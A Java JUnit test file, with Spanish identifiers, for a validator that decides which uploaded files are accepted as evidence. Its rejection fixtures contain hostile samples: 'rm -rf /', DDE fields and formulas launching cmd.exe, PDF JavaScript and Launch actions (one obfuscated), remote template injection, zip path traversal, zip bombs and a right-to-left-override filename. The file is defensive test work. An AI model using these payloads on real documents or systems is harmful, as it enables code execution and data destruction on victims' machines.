package co.cuentasclaras.evidencia;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import co.cuentasclaras.comun.SolicitudInvalida;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.util.unit.DataSize;

@DisplayName("Lo que se recibe como evidencia")
class TipoArchivoTest {

    private static final DataSize LIMITE = DataSize.ofMegabytes(8);

    @ParameterizedTest(name = "{0}")
    @MethodSource
    @DisplayName("se conoce por su contenido y toma su extensión")
    void aceptados(String guardado, String nombre, byte[] contenido) {
        assertThat(Archivo.leer(nombre, contenido, LIMITE).nombre()).isEqualTo(guardado);
    }

    static Stream<Arguments> aceptados() {
        return Stream.of(
                arguments("informe.pdf", "informe.pdf", "%PDF-1.7\n%âãÏÓ\n1 0 obj".getBytes(UTF_8)),
                arguments("informe.doc.pdf", "informe.doc", "%PDF-1.7\n1 0 obj".getBytes(UTF_8)),
                arguments("foto.png", "foto.png", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13}),
                arguments(
                        "foto.JPG.png", "foto.JPG", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13
                        }),
                arguments("foto.jpeg", "foto.JPEG", new byte[] {
                    (byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0
                }),
                arguments("acta.docx", "acta.docx", zip("[Content_Types].xml", "word/document.xml")),
                arguments("tabla.xlsx", "tabla.xlsx", zip("[Content_Types].xml", "xl/workbook.xml")),
                arguments("charla.pptx", "charla.pptx", zip("[Content_Types].xml", "ppt/media/imagen.svg")),
                arguments("texto.odt", "texto.odt", odf("application/vnd.oasis.opendocument.text")),
                arguments("tabla.ods", "tabla.ods", odf("application/vnd.oasis.opendocument.spreadsheet")),
                arguments("viejo.doc", "viejo.doc", ole("WordDocument")),
                arguments("viejo.xls", "viejo.xls", ole("Workbook")),
                arguments("fotos.zip", "fotos.zip", zip("uno.jpg", "dos.jpg")),
                arguments(
                        "grafica.docx",
                        "grafica.docx",
                        oficina(Map.of(
                                "word/embeddings/tabla.xlsx", zip("[Content_Types].xml", "xl/workbook.xml"),
                                "word/media/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>".getBytes(UTF_8),
                                "word/_rels/settings.xml.rels", relacion("attachedTemplate", "file:///C:\\Acta.dotx"),
                                "word/_rels/document.xml.rels", relacion("hyperlink", "https://entidad.gov.co")))),
                arguments(
                        "vinculos.xlsx",
                        "vinculos.xlsx",
                        hoja(Map.of(
                                "xl/worksheets/sheet1.xml",
                                "<s><f>IF(A1=\"a|b\",Tabla1[Meta|2022],'Hoja|1'!A1)</f><f>[1]Hoja1!A1</f></s>"
                                        .getBytes(UTF_8),
                                "xl/externalLinks/_rels/externalLink1.xml.rels",
                                relacion("externalLinkPath", "file:///C:\\Metas.xlsx"),
                                "xl/connections.xml",
                                "<connections><connection refreshOnLoad='0' interval='0'/></connections>"
                                        .getBytes(UTF_8),
                                "xl/drawings/vmlDrawing1.vml",
                                "<xml><br></xml>".getBytes(UTF_8),
                                "xl/printerSettings/printerSettings1.bin",
                                new byte[] {1, 0, 2}))),
                arguments(
                        "campos.docx",
                        "campos.docx",
                        texto(campo("PAGE")
                                + campo("HYPERLINK \"https://x.co/DDE/DDEAUTO\"")
                                + campo("INCLUDEPICTURE \"https://entidad.gov.co/escudo.png\""))),
                arguments(
                        "video.pptx",
                        "video.pptx",
                        presentacion(Map.of(
                                "ppt/slides/slide1.xml",
                                "<s><hlinkClick action='ppaction://hlinksldjump'/></s>".getBytes(UTF_8),
                                "ppt/slides/_rels/slide1.xml.rels",
                                relacion("video", "https://video.entidad.gov.co/audiencia")))),
                arguments(
                        "enlace.pdf",
                        "enlace.pdf",
                        pdf(
                                "<< /OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://x.co/web/JavaScript/Launch) >> >>")),
                arguments(
                        "indice.pdf",
                        "indice.pdf",
                        pdf("<< /First 2 0 R >>\nendobj\n2 0 obj\n<< >>\nstream\nfoto\nendstream")),
                arguments("nota.txt", "nota.txt", "Se entregó el informe.".getBytes(UTF_8)),
                arguments("lista.csv", "lista.csv", "nombre;voto\nAna;sí\n".getBytes(UTF_8)),
                arguments("orden.bat.txt", "orden.bat", "del informe".getBytes(UTF_8)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    @DisplayName("nunca es una página ni un programa, se llame como se llame")
    void rechazados(String clase, byte[] contenido) {
        assertThatThrownBy(() -> Archivo.leer("informe.pdf", contenido, LIMITE))
                .isInstanceOf(SolicitudInvalida.class)
                .hasMessageContaining("no se recibe como evidencia");
    }

    static Stream<Arguments> rechazados() {
        return Stream.of(
                arguments("página", "<!DOCTYPE html><html><script>alert(1)</script>".getBytes(UTF_8)),
                arguments("página sin doctype", "<html><body onload=x>".getBytes(UTF_8)),
                arguments("svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>".getBytes(UTF_8)),
                arguments("xml", "<?xml version=\"1.0\"?><a/>".getBytes(UTF_8)),
                arguments("guion", "#!/bin/sh\nrm -rf /\n".getBytes(UTF_8)),
                arguments("programa de Windows", programa()),
                arguments("programa de Linux", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0
                }),
                arguments("jar", zip("META-INF/MANIFEST.MF", "A.class")),
                arguments("macros", zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")),
                arguments(
                        "documento con macros de otro nombre", oficina(Map.of("word/datos.bin", ole("_VBA_PROJECT")))),
                arguments(
                        "documento que dice tener macros",
                        oficina(Map.of(
                                "[Content_Types].xml",
                                "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
                                        .getBytes(UTF_8)))),
                arguments(
                        "documento que trae su plantilla",
                        oficina(Map.of(
                                "word/_rels/settings.xml.rels", relacion("attachedTemplate", "https://x.co/a.dotm")))),
                arguments(
                        "documento que trae su plantilla de la red",
                        oficina(Map.of("word/_rels/settings.xml.rels", relacion("attachedTemplate", "\\\\x\\a.dotm")))),
                arguments(
                        "documento que trae un objeto",
                        oficina(Map.of(
                                "word/_rels/document.xml.rels", relacion("oleObject", "mhtml:https://x.co/a!b")))),
                arguments(
                        "documento con relaciones que no se leen",
                        oficina(Map.of("word/_rels/document.xml.rels", "<a".getBytes(UTF_8)))),
                arguments("documento con objeto", oficina(Map.of("word/embeddings/o.bin", ole("\001Ole10Native")))),
                arguments(
                        "documento con objeto de otro programa",
                        oficina(Map.of(
                                "word/_rels/document.xml.rels", relacionInterna("oleObject", "embeddings/hoja.dat"),
                                "word/embeddings/hoja.dat", ole("CONTENTS")))),
                arguments(
                        "documento con objeto sin relación",
                        oficina(Map.of("word/embeddings/oleObject1.bin", ole("CONTENTS")))),
                arguments("documento con campo DDEAUTO", texto(campo("DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\""))),
                arguments(
                        "documento con campo en pedazos",
                        texto(
                                "<r><fldChar/></r><r><instrText> DD</instrText></r><r><instrText>EAUTO c:</instrText></r>")),
                arguments("documento con campo sencillo", texto("<fldSimple instr=' dde cmd a '/>")),
                arguments("documento con campo INCLUDETEXT", texto(campo("INCLUDETEXT \"https://x.co/a.docx\""))),
                arguments("documento con imagen de otra máquina", texto(campo("INCLUDEPICTURE \"file://x/a.png\""))),
                arguments(
                        "documento con imagen relacionada de otra máquina",
                        oficina(Map.of("word/_rels/document.xml.rels", relacion("image", "file://x/a.png")))),
                arguments(
                        "documento con parte que no se lee", oficina(Map.of("word/footer1.xml", "<a".getBytes(UTF_8)))),
                arguments("documento viejo con campo", viejoConCampo(UTF_16LE)),
                arguments("documento viejo con campo de a byte", viejoConCampo(UTF_8)),
                arguments(
                        "hoja con DDE",
                        hoja(Map.of(
                                "xl/externalLinks/externalLink1.xml",
                                "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
                                        .getBytes(UTF_8)))),
                arguments(
                        "hoja con macros de antes", hoja(Map.of("xl/macrosheets/sheet2.xml", "<a/>".getBytes(UTF_8)))),
                arguments(
                        "hoja con macros de antes en otra parte",
                        hoja(Map.of(
                                "xl/_rels/workbook.xml.rels",
                                relacionInterna("xlMacrosheet", "worksheets/sheet2.xml")))),
                arguments(
                        "hoja con vínculo a otra máquina",
                        hoja(Map.of(
                                "xl/externalLinks/_rels/externalLink1.xml.rels",
                                relacion("externalLinkPath", "https://x.co/a.xlsx")))),
                arguments(
                        "hoja que se conecta sola",
                        hoja(Map.of(
                                "xl/connections.xml",
                                "<connections><connection refreshOnLoad='1'/></connections>".getBytes(UTF_8)))),
                arguments(
                        "hoja con fórmula que arranca algo",
                        hoja(Map.of("xl/worksheets/sheet1.xml", "<s><f>cmd|'/c calc'!A0</f></s>".getBytes(UTF_8)))),
                arguments(
                        "hoja con fórmula que trae",
                        hoja(Map.of(
                                "xl/worksheets/sheet1.xml",
                                "<s><f>_xlfn.WEBSERVICE(\"https://x.co\"&amp;A1)</f></s>".getBytes(UTF_8)))),
                arguments(
                        "presentación que arranca algo",
                        presentacion(Map.of(
                                "ppt/slides/slide1.xml",
                                "<s><hlinkClick action='ppaction://program'/></s>".getBytes(UTF_8)))),
                arguments(
                        "presentación con enlace a un programa",
                        presentacion(Map.of(
                                "ppt/slides/_rels/slide1.xml.rels", relacion("hyperlink", "file:///C:\\cmd.exe")))),
                arguments(
                        "OpenDocument que arranca algo",
                        comprimir(partesDeOdfCon("<a xmlns:p='x'><event-listener p:action='execute'/></a>"))),
                arguments(
                        "OpenDocument con DDE",
                        comprimir(partesDeOdfCon("<a><c formula='of:=DDE(\"soffice\";\"a\";\"b\")'/></a>"))),
                arguments("CSV con fórmula que arranca algo", "a;b\n=cmd|'/c calc'!A0;1\n".getBytes(UTF_8)),
                arguments("texto que es una hoja", "ID;PWXL;N;E\nC;X1;Y1;K1\n".getBytes(UTF_8)),
                arguments("PDF con guion", pdf("<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")),
                arguments("PDF con guion disimulado", pdf("<</OpenAction<</S/J#61vaScr#69pt/JS(app.alert(1))>>>>")),
                arguments("PDF que arranca algo", pdf("<</OpenAction<</S/Launch/F(cmd.exe)>>>>")),
                arguments("PDF con guion empacado", pdfEmpacado("<</S/JavaScript/JS(app.alert(1))>>", true)),
                arguments("PDF que no se desempaca", pdfEmpacado("<</S/JavaScript/JS(app.alert(1))>>", false)),
                arguments("zip con PDF con guion", comprimir(Map.of("a.pdf", pdf("<</S/JavaScript>>")))),
                arguments("zip con consulta", zip("ventas.iqy")),
                arguments("zip con hoja de símbolos", zip("ventas.slk")),
                arguments("zip con orden del explorador", zip("carpeta.scf")),
                arguments("zip con ajuste", zip("panel.SettingContent-ms")),
                arguments("zip que se sale", zip("../../x.txt")),
                arguments("zip que se sale por la otra barra", zip("a\\..\\..\\x.txt")),
                arguments("zip que va a la raíz", zip("/etc/x.txt")),
                arguments(
                        "zip con documento en un XML",
                        comprimir(Map.of(
                                "a.xml",
                                "<?xml version='1.0'?><?mso-application progid='Word.Document'?><a/>"
                                        .getBytes(UTF_8)))),
                arguments("documento con programa", oficina(Map.of("word/embeddings/o.bin", programa()))),
                arguments("documento con página", oficina(Map.of("word/pagina.html", new byte[0]))),
                arguments(
                        "documento con dibujo que corre",
                        oficina(Map.of("word/media/a.svg", "<svg onload='alert(1)'/>".getBytes(UTF_8)))),
                arguments("OpenDocument con macros", comprimir(partesDeOdf("Basic/Standard/Module1.xml"))),
                arguments("OpenDocument con guiones", comprimir(partesDeOdf("Scripts/python/a.py"))),
                arguments("OpenDocument con programa", comprimir(partesDeOdf("Object 1/a.exe"))),
                arguments("zip con guion", zip("dentro/a.js")),
                arguments("zip con dibujo", zip("a.svg")),
                arguments("zip con documento de macros", zip("acta.DOCM")),
                arguments("zip con programa de otro nombre", comprimir(Map.of("foto.jpg", programa()))),
                arguments("zip con página de otro nombre", comprimir(Map.of("a.txt", "<html><body>".getBytes(UTF_8)))),
                arguments("zip en zip con programa", comprimir(Map.of("a.dat", zip("b/a.exe")))),
                arguments("zip sin fondo", enZip(zip("a.txt"), 9)),
                arguments("zip que no acaba de desempacarse", comprimir(Map.of("a.txt", new byte[80_000_000]))),
                arguments("documento viejo con objeto", ole("WordDocument\001Ole10Native")),
                arguments("aplicación de Android", zip("classes.dex", "res/icono.png")),
                arguments("zip con programa", zip("leame.txt", "dentro/INSTALAR.EXE")),
                arguments("zip con página", zip("index.html")),
                arguments(
                        "zip dañado",
                        new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 0, 1, 2}),
                arguments("instalador", ole("Property")),
                arguments("bytes sueltos", new byte[] {1, 2, 3, 0, 5, 6, 7, 8}));
    }

    @Test
    @DisplayName("se recibe o se rechaza, nunca falla, por dañado que esté")
    void danados() {
        byte[] sano = zip("[Content_Types].xml", "word/document.xml", "imagen.jpg");
        Random azar = new Random(7);
        for (int vez = 0; vez < 500; vez++) {
            byte[] danado = Arrays.copyOf(sano, vez % 5 == 0 ? 10 + azar.nextInt(sano.length - 10) : sano.length);
            for (int i = azar.nextInt(6); i >= 0; i--) {
                danado[4 + azar.nextInt(danado.length - 4)] = (byte) azar.nextInt(256);
            }
            try {
                Archivo.leer("acta.docx", danado, LIMITE);
            } catch (SolicitudInvalida e) {
                assertThat(e).hasMessageContaining("no se recibe como evidencia");
            }
        }
    }

    @Test
    @DisplayName("se decide enseguida, aunque esté hecho para demorar")
    void enseguida() {
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> Stream.of(
                        pdf("stream\n".repeat(1_000_000)),
                        pdf("/First stream\n".repeat(500_000)),
                        texto("<instrText>" + "\n".repeat(900_000) + "</instrText>"),
                        hoja(Map.of(
                                "xl/worksheets/sheet1.xml",
                                ("<s><f>" + "[\"'".repeat(300_000) + "</f></s>").getBytes(UTF_8))),
                        hoja(Map.of("xl/drawings/a.bin", viejoConBlancos())),
                        viejoConBlancos())
                .forEach(contenido -> {
                    try {
                        Archivo.leer("lento", contenido, LIMITE);
                    } catch (SolicitudInvalida e) {
                        assertThat(e).hasMessageContaining("no se recibe como evidencia");
                    }
                }));
    }

    private static byte[] viejoConBlancos() {
        byte[] documento = Arrays.copyOf(ole("WordDocument"), 4_000_000);
        Arrays.fill(documento, 2048, documento.length, (byte) ' ');
        documento[2048] = 0x13;
        return documento;
    }

    @Test
    @DisplayName("no está vacío ni pasa del límite")
    void tamanos() {
        assertThatThrownBy(() -> Archivo.leer("a.txt", new byte[0], LIMITE)).hasMessageContaining("está vacío");
        assertThatThrownBy(() -> Archivo.leer("a.txt", new byte[8 * 1024 * 1024 + 1], LIMITE))
                .hasMessageContaining("más de 8 MB");
    }

    @ParameterizedTest
    @CsvSource({
        "../../etc/passwd, passwd.txt",
        "C:\\Users\\ana\\nota.txt, nota.txt",
        "'a<b>:c\"|?*;%.txt', a_b__c______.txt",
        "' .oculto. ', oculto.txt",
        "CON, evidencia.txt",
        "'', evidencia.txt",
        "'nota\u202Etxt.exe', notatxt.exe.txt",
        "'línea\nnueva.txt', líneanueva.txt"
    })
    @DisplayName("queda con un nombre que se puede guardar en cualquier parte")
    void nombres(String original, String seguro) {
        assertThat(Archivo.leer(original, "texto".getBytes(UTF_8), LIMITE).nombre())
                .isEqualTo(seguro);
    }

    @Test
    @DisplayName("recorta los nombres larguísimos sin perder la extensión")
    void nombreLargo() {
        assertThat(Archivo.leer("x".repeat(500) + ".csv", "a;b".getBytes(UTF_8), LIMITE)
                        .nombre())
                .hasSize(124)
                .endsWith("x.csv");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "data:text/html,x",
                "ftp://servidor/archivo",
                "informe de gestión",
                "https://",
                "https://ana:clave@entidad.gov.co/",
                "https://entidad.gov.co/con espacio",
                ""
            })
    @DisplayName("un enlace es una dirección web")
    void enlacesMalos(String url) {
        assertThatThrownBy(() -> Enlace.leer(url, "x"))
                .isInstanceOf(SolicitudInvalida.class)
                .hasMessageContaining("Escriba la dirección del enlace");
    }

    @Test
    @DisplayName("un enlace sin nombre muestra su dirección")
    void enlace() {
        assertThat(Enlace.leer(" https://www.entidad.gov.co/informe ", " "))
                .isEqualTo(new Enlace("https://www.entidad.gov.co/informe", "https://www.entidad.gov.co/informe"));
    }

    private static byte[] programa() {
        byte[] programa = new byte[256];
        System.arraycopy("MZ".getBytes(UTF_8), 0, programa, 0, 2);
        programa[0x3c] = (byte) 0x80;
        System.arraycopy(new byte[] {'P', 'E', 0, 0, 0x4c, 1}, 0, programa, 0x80, 6);
        return programa;
    }

    private static byte[] ole(String parte) {
        byte[] documento = new byte[2048];
        byte[] firma = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(firma, 0, documento, 0, firma.length);
        byte[] nombre = parte.getBytes(UTF_16LE);
        System.arraycopy(nombre, 0, documento, 1152, nombre.length);
        return documento;
    }

    private static byte[] relacion(String tipo, String destino) {
        return "<Relationships><Relationship Type='http://x/%s' TargetMode='External' Target='%s'/></Relationships>"
                .formatted(tipo, destino)
                .getBytes(UTF_8);
    }

    private static byte[] relacionInterna(String tipo, String destino) {
        return "<Relationships><Relationship Type='http://x/%s' Target='%s'/></Relationships>"
                .formatted(tipo, destino)
                .getBytes(UTF_8);
    }

    private static String campo(String orden) {
        return "<r><fldChar/></r><r><instrText> %s </instrText></r><r><fldChar/></r>".formatted(orden);
    }

    private static byte[] texto(String parrafo) {
        return oficina(Map.of(
                "word/document.xml",
                "<document><p>%s</p></document>".formatted(parrafo).getBytes(UTF_8)));
    }

    private static byte[] viejoConCampo(Charset letras) {
        byte[] documento = ole("WordDocument");
        byte[] campo = "\u0013 DDEAUTO cmd".getBytes(letras);
        System.arraycopy(campo, 0, documento, 1536, campo.length);
        return documento;
    }

    private static byte[] hoja(Map<String, byte[]> otras) {
        Map<String, byte[]> partes = partes("[Content_Types].xml", "xl/workbook.xml");
        partes.putAll(otras);
        return comprimir(partes);
    }

    private static byte[] presentacion(Map<String, byte[]> otras) {
        Map<String, byte[]> partes = partes("[Content_Types].xml", "ppt/presentation.xml");
        partes.putAll(otras);
        return comprimir(partes);
    }

    private static Map<String, byte[]> partesDeOdfCon(String contenido) {
        Map<String, byte[]> partes = partesDeOdf("styles.xml");
        partes.put("content.xml", contenido.getBytes(UTF_8));
        return partes;
    }

    private static byte[] pdf(String objeto) {
        return "%%PDF-1.7\n1 0 obj\n%s\nendobj\n".formatted(objeto).getBytes(UTF_8);
    }

    private static byte[] pdfEmpacado(String objeto, boolean seDesempaca) {
        ByteArrayOutputStream pdf = new ByteArrayOutputStream();
        pdf.writeBytes(
                "%PDF-1.7\n4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\r\n".getBytes(UTF_8));
        ByteArrayOutputStream datos = new ByteArrayOutputStream();
        try (DeflaterOutputStream empacador = new DeflaterOutputStream(datos)) {
            empacador.write(("5 0 " + objeto).getBytes(UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        byte[] empacado = datos.toByteArray();
        empacado[0] ^= (byte) (seDesempaca ? 0 : 0x5a);
        pdf.writeBytes(empacado);
        pdf.writeBytes("\nendstream\nendobj\n".getBytes(UTF_8));
        return pdf.toByteArray();
    }

    private static byte[] oficina(Map<String, byte[]> otras) {
        Map<String, byte[]> partes = partes("[Content_Types].xml", "word/document.xml");
        partes.putAll(otras);
        return comprimir(partes);
    }

    private static byte[] odf(String medio) {
        return comprimir(partesDeOdf(medio, "content.xml"));
    }

    private static Map<String, byte[]> partesDeOdf(String otra) {
        return partesDeOdf("application/vnd.oasis.opendocument.text", otra);
    }

    private static Map<String, byte[]> partesDeOdf(String medio, String otra) {
        Map<String, byte[]> partes = partes("mimetype", "content.xml", otra);
        partes.put("mimetype", medio.getBytes(UTF_8));
        return partes;
    }

    private static byte[] enZip(byte[] contenido, int veces) {
        return veces == 0 ? contenido : enZip(comprimir(Map.of("a.zip", contenido)), veces - 1);
    }

    private static byte[] zip(String... nombres) {
        return comprimir(partes(nombres));
    }

    private static Map<String, byte[]> partes(String... nombres) {
        Map<String, byte[]> partes = new LinkedHashMap<>();
        List.of(nombres).forEach(nombre -> partes.put(nombre, "<a/>".getBytes(UTF_8)));
        return partes;
    }

    private static byte[] comprimir(Map<String, byte[]> partes) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> parte : partes.entrySet()) {
                byte[] contenido = parte.getValue();
                ZipEntry entrada = new ZipEntry(parte.getKey());
                if (entrada.getName().equals("mimetype")) {
                    CRC32 suma = new CRC32();
                    suma.update(contenido);
                    entrada.setMethod(ZipEntry.STORED);
                    entrada.setSize(contenido.length);
                    entrada.setCrc(suma.getValue());
                }
                zip.putNextEntry(entrada);
                zip.write(contenido);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
